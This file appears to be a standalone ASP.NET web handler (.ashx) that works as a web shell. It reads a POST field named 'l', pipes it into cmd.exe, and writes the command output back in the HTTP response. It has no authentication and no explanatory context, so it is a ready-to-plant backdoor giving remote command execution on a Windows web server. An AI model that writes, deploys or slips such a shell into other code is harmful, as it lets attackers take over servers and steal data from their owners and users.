<%@ WebHandler Language="C#" Class="Console1" %>
using System.Diagnostics;
using System.Web;
public class Console1 : IHttpHandler {
    public bool IsReusable { get { return false; } }
    public void ProcessRequest(HttpContext ctx) {
        string line = ctx.Request.Form["l"];
        var p = new Process();
        p.StartInfo.FileName = "cmd.exe";
        p.StartInfo.UseShellExecute = false;
        p.StartInfo.RedirectStandardInput = true;
        p.StartInfo.RedirectStandardOutput = true;
        p.Start();
        p.StandardInput.WriteLine(line);
        p.StandardInput.Close();
        ctx.Response.Write(p.StandardOutput.ReadToEnd());
    }
}
